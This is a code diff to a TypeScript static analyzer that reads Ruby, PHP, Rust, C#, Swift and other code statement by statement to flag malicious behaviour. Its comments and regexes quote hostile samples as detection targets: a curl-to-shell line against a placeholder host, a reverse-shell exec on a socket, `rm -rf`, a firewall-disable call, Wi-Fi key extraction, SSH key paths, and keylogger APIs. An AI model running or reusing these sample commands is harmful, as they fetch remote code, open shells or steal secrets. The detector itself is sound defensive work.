@@ -31,7 +31,7 @@ const STRING_RE = /"((?:\\.|[^"\\])*)"|'((?:\\.|[^'\\])*)'/g;
 const SHELL_PROGRAM_RE = /(?:^|[/\s"'])(?:ba|z|da|k)?sh\b|\bcmd(?:\.exe)?\b|\bpowershell\b/;
 
 /**
- * Ruby, Perl, PHP, Go, Java and Lua: no grammar ships for them, so their facts are read statement by
+ * Ruby, Perl, PHP, Go, Java (Kotlin, Groovy), Lua, Rust, C# and Swift: no grammar ships for them, so their facts are read statement by
  * statement from how each spells its network, process, eval, environment and loader calls
  * (`lexical-apis.ts`), with taint followed through assignments to named variables. Coarser than a
  * syntax tree: a fact carries what its own statement or a variable assigned earlier holds. Command
@@ -152,6 +152,8 @@ function readLexical(
   /** Literal paths a download was written to: naming one again names code from the network. */
   const downloads = new Set<string>();
   const envRead = new RegExp(apis.envRead.source, 'g');
+  /** What a variable named in a command line stands for: the address it holds, or else the path. */
+  const heldValue = (name: string): string | undefined => addresses.get(name) ?? variables.get(name)?.path;
   /** A socket was opened, and later a standard stream was reopened onto a handle: a shell now talks to it. */
   let socketOpened = false;
   let stdioOnSocket = false;
@@ -165,10 +167,12 @@ function readLexical(
   let braces = 0;
   const guards: { depth: number }[] = [];
   let remoteSocket = false;
+  /** The program each process object was given (`p.executableURL = URL(fileURLWithPath: "/bin/bash")`). */
+  const programs = new Map<string, string>();
   for (const statement of statementsOf(unit, apis)) {
     const { line } = statement;
     const spelled = spellBuiltValues(statement.text);
-    const text = spelled.text;
+    const text = namedCalls(spelled.text, apis, variables);
     const base = { line, text: statement.text.trim().split('\n')[0] ?? '' };
     const defined = apis.functionStart.exec(text)?.[1];
     if (defined !== undefined) current = defined;
@@ -180,8 +184,11 @@ function readLexical(
     const binding = apis.assignment.exec(text);
     const rebound = new Set(binding === null ? [] : assignedNames(apis, text));
     const rightSide = binding === null ? text : text.slice(binding.index + binding[0].length);
+    // A name inside a literal is a word of the text (`"--out"` names no `out`), unless interpolated.
+    const code = interpolationsOnly(text);
+    const codeRight = interpolationsOnly(rightSide);
     const referenced = [...variables].filter(([name, v]) =>
-      v.reference.test(rebound.has(name) ? rightSide : text),
+      v.reference.test(rebound.has(name) ? codeRight : code),
     );
     const called = [...functions].filter(([name, f]) => name !== defined && f.call.test(text));
     for (const [, v] of [...referenced, ...called]) taint |= v.taint;
@@ -359,7 +366,9 @@ function readLexical(
     const evaluator = outsideStrings(apis.evaluate, text)?.[0];
     // `eval(base64_decode('…'))`: the code evaluated is the literal decoded, read as this language's code.
     const payload = apis.decode.test(text) ? decodedLiteral(text) : undefined;
-    if (evaluator !== undefined) {
+    const fileOnly =
+      evaluator !== undefined && apis.evaluateFile?.test(evaluator) === true && input.length === 0;
+    if (evaluator !== undefined && !fileOnly) {
       facts.push({
         kind: 'exec',
         api: apiName(evaluator),
@@ -376,12 +385,21 @@ function readLexical(
         ).facts)
           facts.push({ ...fact, line, text: base.text });
     }
+    const setsProgram = apis.programOf?.exec(text);
+    if (setsProgram?.[1] !== undefined && setsProgram[2] !== undefined)
+      programs.set(setsProgram[1], setsProgram[2]);
     const shell = outsideStrings(apis.shell, text);
     if (shell !== null) {
-      const built =
-        joinedCommand(text, shell, (name) => addresses.get(name)) ??
+      const listed =
+        joinedCommand(text, shell, heldValue) ??
         builderCommand(apis, text, shell) ??
-        argvCommand(text, shell, (name) => addresses.get(name));
+        argvCommand(text, shell, heldValue, apis.argumentString) ??
+        interpolatedCommand(shell, heldValue);
+      // `p.arguments = ["-c", "…"]`: the words follow the program set on `p` earlier.
+      const object = apis.programOf === undefined ? undefined : /(\w+)\s*\.\s*arguments\s*=/.exec(text)?.[1];
+      const launched = object === undefined ? undefined : programs.get(object);
+      const built =
+        launched === undefined ? listed : [quoteForShell(launched), listed ?? ''].join(' ').trim();
       // Neovim's `:!cmd` (after `silent` and kin) hands the rest of the line to the shell.
       const joined = /^vim\./.test(shell[0]) ? built?.replace(EX_SHELL_PREFIX_RE, '') : built;
       // `exec("/bin/sh -i <&3 >&3 2>&3")` after `fsockopen`: the socket is the first descriptor opened.
@@ -396,7 +414,7 @@ function readLexical(
         literalCommand(shell, apis.argumentString) ??
         (shell[1] === undefined ? program : undefined);
       if (started !== undefined && INTERACTIVE_SHELL_RE.test(started)) interactiveShell ??= base;
-      const held = referenced.map(([, v]) => v.command).find((c) => c !== undefined);
+      const held = [...referenced, ...called].map(([, v]) => v.command).find((c) => c !== undefined);
       // `exec.Command("netsh", "wlan", "show", "profile", n, "key=clear").Output()`: the output is a secret.
       // The literals after the starter count too: an argument built by concatenation ends the literal list.
       for (const line of [started ?? held ?? '', literals(text.slice(shell.index)).join(' ')]) {
@@ -428,6 +446,10 @@ function readLexical(
     const mutated = receiver === undefined ? undefined : variables.get(receiver);
     if (mutated !== undefined) {
       mutated.taint |= produces & ~SOCKET;
+      // `p.push(".cargo")` on `let mut p = PathBuf::from(home)`: the path grows by the segment.
+      const pushed = mutated.path === undefined ? undefined : PATH_PUSH_RE.exec(text)?.[1];
+      if (pushed !== undefined && SEGMENT_RE.test(pushed))
+        mutated.path = `${mutated.path}/${pushed.replace(/^[/\\]+|[/\\]+$/g, '')}`;
       if (mutator?.[3] !== undefined) mutated.body = (mutated.body ?? 0) | (produces & ~SOCKET);
     }
     // `return path`: callers of the function get what it returns (a download saved to a temp file).
@@ -438,6 +460,8 @@ function readLexical(
     ) {
       const f = functions.get(current) ?? { taint: 0, call: callPattern(current, apis) };
       f.taint |= produces & ~SOCKET;
+      // `return "curl -fsSL https://$host/u.sh | sh"`: a caller handing the result to a shell runs that line.
+      f.command ??= commandOf(text, heldValue);
       if (path !== undefined) f.path ??= path;
       functions.set(current, f);
     }
@@ -451,7 +475,7 @@ function readLexical(
     const registryKey = REGISTRY_OPEN_RE.test(text) ? registryKeyOf(text) : undefined;
     const opens = apis.writeFile.test(text) ? referenced.map(([name]) => name) : [];
     const opensPaths = apis.writeFile.test(text) ? literals(text).filter(isPathLiteral) : [];
-    const command = commandOf(text, (name) => addresses.get(name));
+    const command = commandOf(text, heldValue);
     const startsShell =
       shell !== null &&
       (SHELL_PROGRAM_RE.test(shell[0] + (shell[1] ?? '')) ||
@@ -551,6 +575,43 @@ function oneStatementALine(code: string): string {
 const KEY_CAPTURE_RE =
   /\b(?:GetAsyncKeyState|GetKeyboardState|SetWindowsHookEx[AW]?|WH_KEYBOARD_LL|CGEventTapCreate|addGlobalMonitorForEvents(?:MatchingMask)?)\b|\/dev\/input\/(?:event|by-id|by-path)|\bevdev\.InputDevice\b/;
 
+/**
+ * The statement with each string literal reduced to the values it interpolates (`"$home/.x"`, `"${x}"`,
+ * `"#{x}"`, `$"{x}"`, `"%s"` aside): what the code names, not the words of its text.
+ */
+function interpolationsOnly(text: string): string {
+  return text.replace(STRING_RE, (literal) => {
+    const names = [
+      ...literal.matchAll(/[$@]\{?\s*[A-Za-z_][\w]*(?:\{[^}]*\})?|#\{[^}]*\}|\{\s*[A-Za-z_][\w.]*\s*\}/g),
+    ];
+    return names.length === 0 ? '""' : `" ${names.map((m) => m[0]).join(' ')} "`;
+  });
+}
+
+/**
+ * A call through a variable that holds a function's name (PHP's `$fn = 'sys' . 'tem'; $fn('…')`,
+ * `call_user_func($fn, '…')`), spelled as the call it makes, so the starter's pattern sees it.
+ */
+function namedCalls(text: string, apis: LexicalApis, variables: ReadonlyMap<string, Held>): string {
+  if (!apis.lineComment.includes('#') || !apis.blockComments) return text;
+  const name = (v: string): string | undefined => {
+    const literal = variables.get(v)?.literal;
+    return literal !== undefined && /^[A-Za-z_]\w*$/.test(literal) ? literal : undefined;
+  };
+  return text
+    .replace(
+      /\bcall_user_func(?:_array)?\s*\(\s*(?:["'](\w+)["']|\$(\w+))\s*,\s*/g,
+      (m, fn?: string, v?: string) => {
+        const called = fn ?? (v === undefined ? undefined : name(v));
+        return called === undefined ? m : `${called}(`;
+      },
+    )
+    .replace(/\$(\w+)(\s*\()/g, (m, v: string, paren: string) => {
+      const called = name(v);
+      return called === undefined ? m : `${called}${paren}`;
+    });
+}
+
 /** Braces a statement opens minus those it closes, strings aside. */
 function braceBalance(text: string): number {
   const masked = text.replace(STRING_RE, '""');
@@ -584,8 +645,12 @@ function registryKeyOf(text: string): string | undefined {
   return rawLiterals(text).find((l) => /^(?:HK\w*[\\:]+)?Software\\/i.test(l) || /^HKEY_/i.test(l));
 }
 
-/** A right side that is one literal and nothing else. */
-const ONE_LITERAL_RE = /^\s*(?:"(?:\\.|[^"\\])*"|'(?:\\.|[^'\\])*')\s*;?\s*$/;
+/**
+ * A right side that is one literal and nothing else, or one converted in place (Rust's
+ * `"198.51.100.7:443".parse()`, `.to_string()`, `.into()`): the value is still that literal.
+ */
+const ONE_LITERAL_RE =
+  /^\s*(?:"(?:\\.|[^"\\])*"|'(?:\\.|[^'\\])*')(?:\s*\.\s*(?:parse|to_string|to_owned|into|as_str|trim|unwrap)\s*(?:::<[^>]*>)?\s*\(\s*\))*\s*[;{]?\s*$/;
 
 /** A host literal a socket connects to: an IPv4 address (with a port) or a dotted name. */
 const REMOTE_HOST_RE = /^(?:\d{1,3}(?:\.\d{1,3}){3}|[a-z0-9-]+(?:\.[a-z0-9-]+)+)(?::\d+)?$/i;
@@ -605,9 +670,11 @@ function readsAsData(shell: RegExpExecArray | null, downloads: ReadonlySet<strin
 
 const RETURN_RE = /^\s*return\b/;
 const FUNCTION_END_RE = /^(?:end|\})\s*$/;
+/** A literal segment pushed onto a path value (Rust's `PathBuf::push`). */
+const PATH_PUSH_RE = /^\s*\w+\s*\.\s*push\s*\(\s*"((?:\\.|[^"\\])*)"\s*\)/;
 /** A call on a variable that adds to it: the receiver, in group 1. */
 const MUTATOR_RE =
-  /^\s*[$@]?([A-Za-z_]\w*)\s*(?:\.|->)\s*(?:push_str|push|append|extend|concat|insert|update|add|put|WriteString|Write|write|write_all|print|puts)\s*\(|^\s*[$@]?([A-Za-z_]\w*)\s*<<\s*\S|^\s*[$@]?([A-Za-z_]\w*)\s*(?:\.|->)\s*(?:set_form(?:_data)?\s*\(|(?:body|Body|body_stream|form_data)\s*=(?!=))/;
+  /^\s*[$@]?([A-Za-z_]\w*)\s*(?:\.|->)\s*(?:push_str|push|append|extend|concat|insert|update|add|put|WriteString|Write|write|write_all|print|puts)\s*\(|^\s*[$@]?([A-Za-z_]\w*)\s*<<\s*\S|^\s*[$@]?([A-Za-z_]\w*)\s*(?:\.|->)\s*(?:set_form(?:_data)?\s*\(|(?:body|Body|body_stream|form_data|httpBody)\s*=(?!=))/;
 
 /** The variables a statement binds (`a, b := …`), without the blank `_`. */
 function assignedNames(apis: LexicalApis, text: string): string[] {
@@ -661,9 +728,13 @@ const INTERPOLATED_TAIL_RE = /(?:\$\{?\w+\}?|#\{[^}]*\}|\$ENV\{\s*\w+\s*\})((?:\
 
 /** Calls that join path segments, in each language. */
 const JOIN_RE =
-  /\b(?:filepath\.Join|Path\.Combine|path\.Join|File\.join|Paths\.get|Path\.of|File::Spec->cat(?:file|dir)|catfile|catdir)\s*\(/;
-/** A literal appended to a path (`home + "/.ssh/id_rsa"`, Perl's `$home . "/.ssh"`, PHP's `getenv('HOME').'/.x'`). */
-const APPENDED_RE = /(?:\+|\.\.|\s\.|(?<=[)\]])\.)\s*(?:"((?:\\.|[^"\\])*)"|'((?:\\.|[^'\\])*)')/;
+  /(?<![\w.])(?:new\s+)?File\s*\(|\b(?:filepath\.Join|Path\.Combine|path\.Join|File\.join|Paths\.get|Path\.of|File::Spec->cat(?:file|dir)|catfile|catdir)\s*\(/;
+/**
+ * A literal appended to a path (`home + "/.ssh/id_rsa"`, Perl's `$home . "/.ssh"`, PHP's `getenv('HOME').'/.x'`,
+ * Swift's `home.appendingPathComponent(".ssh/id_rsa")`).
+ */
+const APPENDED_RE =
+  /(?:\+|\.\.|\s\.|(?<=[)\]])\.(?!appending)|\.appending(?:PathComponent)?\s*\(\s*(?:(?:path|component):\s*)?)\s*(?:"((?:\\.|[^"\\])*)"|'((?:\\.|[^'\\])*)')/;
 
 /** The variable a join call starts from (`Join(home, …)` is `home`), bare or sigiled. */
 function joinBase(text: string): string | undefined {
@@ -684,9 +755,10 @@ function joinedSegments(text: string): string[] {
     }
     // Each argument after the first (the base the path starts from) is a segment; one that is not a
     // literal stands for a name chosen at run time, so `Join(home, name)` is not the home itself.
-    return splitArguments(text.slice(join.index + join[0].length, end - 1))
-      .slice(1)
-      .map((arg) => {
+    const args = splitArguments(text.slice(join.index + join[0].length, end - 1));
+    // `File(home + "/.ssh/id_rsa")`: one argument is a path built whole, not a base and its segments.
+    if (args.length > 1)
+      return args.slice(1).map((arg) => {
         const literal = /^\s*(?:"((?:\\.|[^"\\])*)"|'((?:\\.|[^'\\])*)')\s*$/.exec(arg);
         const value = literal?.[1] ?? literal?.[2];
         return value !== undefined && SEGMENT_RE.test(value) ? value : '$NAME';
@@ -759,8 +831,9 @@ function shellFactsOf(
     const runsVariable = /^\s*(?:\S*\/)?(?:ba|z|da)?sh\s+-c\s*$/.test(command);
     if (!runsVariable) facts.push(...shellFacts);
     else if (held !== undefined) return [...facts, ...context.shell(held, line, input)];
-    // `system("sh", path)` with `path` holding a download: the literal is only the interpreter.
-    const carriesCode = (taint & (NETWORK | DECODED)) !== 0;
+    // `system("sh", path)` with `path` holding a download: the literal is only the interpreter. A tool that
+    // reads its operands as data (`tar xzf archive`, `sha256sum -c`) runs nothing it was handed.
+    const carriesCode = (taint & (NETWORK | DECODED)) !== 0 && !readsOperandsAsData(command);
     if (!runsVariable && (taint & SOCKET) === 0 && !carriesCode) return facts;
   }
   // A shell started on the socket, or a command line read from it (`IO.popen(s.gets)`): the far end drives it.
@@ -779,6 +852,20 @@ function shellFactsOf(
   if (command === undefined && held !== undefined) return [...facts, ...context.shell(held, line, input)];
   facts.push({ kind: 'exec', api: 'shell', input, ...base });
   return facts;
+}
+
+/**
+ * Programs that read the files they are given as data: unpackers, checksums, viewers. Options that make them
+ * run a command (`tar --to-command`, `--checkpoint-action=exec`, `-I prog`, `--use-compress-program`) do not count.
+ */
+const DATA_TOOL_RE =
+  /^(?:tar|unzip|gunzip|gzip|xz|unxz|bunzip2|zstd|7z|sha(?:1|224|256|384|512)sum|shasum|md5sum|b2sum|cksum|file|jq|yq|wc|cmp|diff|ls|stat|cp|mv|mkdir|du|xxd|hexdump|strings)$/;
+const RUNS_COMMAND_OPTION_RE =
+  /--to-command|--checkpoint-action|--use-compress-program|--info-script|--new-volume-script|(?:^|\s)-I\s/;
+
+function readsOperandsAsData(command: string): boolean {
+  const program = (command.trim().split(/\s+/)[0] ?? '').replace(/^['"]|['"]$/g, '').replace(/^.*\//, '');
+  return DATA_TOOL_RE.test(program) && !RUNS_COMMAND_OPTION_RE.test(command);
 }
 
 /** The command line a starter's literal arguments spell (`"sh", "-c", "…"` or one whole line). */
@@ -831,7 +918,18 @@ function commandOf(text: string, addressOf: (name: string) => string | undefined
  * (`ev.file`, `opts.url`) is one operand: `.` joins strings only before a quote or a sigil.
  */
 const OPERAND_RE =
-  /^\s*(?:"((?:\\.|[^"\\])*)"|'((?:\\.|[^'\\])*)'|[$@]?([A-Za-z_]\w*(?:\.[A-Za-z_]\w*)*))\s*/;
+  /^\s*(?:"((?:\\.|[^"\\])*)"|'((?:\\.|[^'\\])*)'|(?:quotemeta|escapeshellarg|shellescape|shell_quote|Shellwords\.(?:escape|shellescape))\s*\(\s*[$@]?([A-Za-z_]\w*)\s*\)|[$@]?([A-Za-z_]\w*(?:\.[A-Za-z_]\w*)*)(\s*\([^()]*\))?)\s*/;
+
+/**
+ * The value an operand stands for: a literal, the address or path a variable holds (also through a
+ * shell-quoting call, `quotemeta($h)`), or a placeholder word (a call's result is never known).
+ */
+function operandValue(operand: RegExpExecArray, addressOf: (name: string) => string | undefined): string {
+  const value = operand[1] ?? operand[2];
+  if (value !== undefined) return value.replace(/\\(.)/g, '$1');
+  if (operand[5] !== undefined) return 'VALUE';
+  return addressOf(operand[3] ?? operand[4] ?? '') ?? 'VALUE';
+}
 /** The concatenation operators of the languages: Lua `..`, PHP and Perl `.`, the others `+`. */
 const CONCAT_RE = /^(?:\.\.|\.|\+)/;
 
@@ -872,7 +970,7 @@ function joinedCommand(
     if (operand === null) return undefined;
     const value = operand[1] ?? operand[2];
     if (value !== undefined) quoted = true;
-    parts.push(value?.replace(/\\(.)/g, '$1') ?? addressOf(operand[3] ?? '') ?? 'VALUE');
+    parts.push(operandValue(operand, addressOf));
     rest = rest.slice(operand[0].length);
     const operator = CONCAT_RE.exec(rest);
     if (operator === null) break;
@@ -893,11 +991,13 @@ function outsideStrings(pattern: RegExp, text: string): RegExpExecArray | null {
   const spans = [...text.matchAll(STRING_RE)].map((m) => [m.index, m.index + m[0].length] as const);
   const wordInString = (m: RegExpMatchArray): boolean => {
     const at = m.index ?? 0;
-    return (
-      spans.some(([start, end]) => at > start && at < end) &&
-      !/^[\w.:]*\s*\(/.test(m[0]) &&
-      !/^\s*\(/.test(text.slice(at + m[0].length))
-    );
+    const span = spans.find(([start, end]) => at > start && at < end);
+    if (span === undefined) return false;
+    // `'eval(base64_decode('` in a list of patterns to grep for: a call whose brackets the literal never
+    // closes is a fragment of text, not code written out to run.
+    const inside = text.slice(at, span[1] - 1);
+    const fragment = (inside.match(/\(/g)?.length ?? 0) > (inside.match(/\)/g)?.length ?? 0);
+    return fragment || (!/^[\w.:]*\s*\(/.test(m[0]) && !/^\s*\(/.test(text.slice(at + m[0].length)));
   };
   if (!wordInString(first)) return first;
   const global = new RegExp(
@@ -924,22 +1024,30 @@ function argvCommand(
   text: string,
   match: RegExpExecArray,
   addressOf: (name: string) => string | undefined,
+  argumentString?: boolean,
 ): string | undefined {
-  const open = text.indexOf('(', match.index);
+  // Groovy's `["bash", "-c", "curl " + host + " | bash"].execute()`: the list is the starter itself.
+  const bracket = text[match.index] === '[';
+  const open = bracket ? match.index : text.indexOf('(', match.index);
   if (open === -1 || open > match.index + match[0].length) return undefined;
   let rest = text.slice(open + 1);
   const words: string[] = [];
-  let listed = false;
+  let listed = bracket;
+  let programLiteral = false;
+  let literalOnly = true;
+  let concatenated = false;
   for (;;) {
     const gap = ARGV_GAP_RE.exec(rest)?.[0] ?? '';
     if (/[{[]/.test(gap)) listed = true;
     rest = rest.slice(gap.length);
     const parts: string[] = [];
+    let wordLiteral = true;
     for (;;) {
       const operand = OPERAND_RE.exec(rest);
       if (operand === null) break;
-      const value = operand[1] ?? operand[2];
-      parts.push(value?.replace(/\\(.)/g, '$1') ?? addressOf(operand[3] ?? '') ?? 'VALUE');
+      if ((operand[1] ?? operand[2]) === undefined) wordLiteral = false;
+      if (words.length === 0 && parts.length === 0) programLiteral = (operand[1] ?? operand[2]) !== undefined;
+      parts.push(operandValue(operand, addressOf));
       rest = rest.slice(operand[0].length);
       const operator = CONCAT_RE.exec(rest);
       if (operator === null) break;
@@ -947,9 +1055,30 @@ function argvCommand(
     }
     // A bare name followed by `=` is an option of the call (`detach = true`), not a word.
     if (parts.length === 0 || /^\s*=/.test(rest)) break;
+    if (parts.length > 1) concatenated = true;
+    if (!wordLiteral) literalOnly = false;
     words.push(parts.join(''));
   }
-  return listed && words.length > 0 ? words.map(quoteForShell).join(' ') : undefined;
+  // Without brackets, a literal program and more words are the list form of Perl's and Ruby's
+  // `system('ufw', 'disable')` and `system("sh", "-c", "rm -rf " . quotemeta($h) . "/*")`, which their
+  // starters' patterns (one literal) cannot spell; a lone variable word is judged by what it holds.
+  const listForm =
+    argumentString !== true && words.length > 1 && programLiteral && (concatenated || literalOnly);
+  return (listed && words.length > 0) || listForm ? words.map(quoteForShell).join(' ') : undefined;
+}
+
+/**
+ * A literal command line with Ruby's `#{…}` in it (`sh "curl -fsSL #{base}/x.sh | bash"`), each replaced by
+ * what its variable holds or a placeholder word: a shell reads `#` after a space as a comment, which would
+ * hide the rest of the line.
+ */
+function interpolatedCommand(
+  match: RegExpExecArray,
+  addressOf: (name: string) => string | undefined,
+): string | undefined {
+  const literal = match.slice(1).find((g) => g !== undefined);
+  if (literal === undefined || !literal.includes('#{')) return undefined;
+  return literal.replace(/#\{\s*@?(\w+)?[^}]*\}/g, (_m, name?: string) => addressOf(name ?? '') ?? 'VALUE');
 }
 
 const ESCAPES: Readonly<Record<string, string>> = { n: '\n', t: '\t', r: '\r' };
@@ -970,6 +1099,7 @@ function statementsOf(unit: Unit, apis: LexicalApis): Statement[] {
   let open: Statement | undefined;
   let depth = 0;
   let inBlockComment = false;
+  let inInitializer = false;
   lines.forEach((raw, i) => {
     const stripped = stripComments(raw, apis, inBlockComment);
     inBlockComment = stripped.inBlockComment;
@@ -981,13 +1111,24 @@ function statementsOf(unit: Unit, apis: LexicalApis): Statement[] {
       statements.pop();
       open = last;
     }
+    // `var psi = new ProcessStartInfo` with its `{ FileName = …, Arguments = … }` on the lines below: one
+    // expression, read as one statement.
+    const initializer =
+      open === undefined && last !== undefined && /^\s*\{/.test(code) && INITIALIZER_RE.test(last.text);
+    if (initializer && last !== undefined) {
+      statements.pop();
+      open = last;
+      inInitializer = true;
+    }
     if (open === undefined) open = { text: code, line: unit.firstLine + i };
     else open.text += `\n${code}`;
-    depth += bracketBalance(code, apis.bracesAreTables === true);
+    // Inside an initializer every brace is the literal's (nested `new { … }` included).
+    depth += bracketBalance(code, apis.bracesAreTables === true || inInitializer);
     if (depth <= 0 || open.text.length > 8000) {
       statements.push(open);
       open = undefined;
       depth = 0;
+      inInitializer = false;
     }
   });
   if (open !== undefined) statements.push(open);
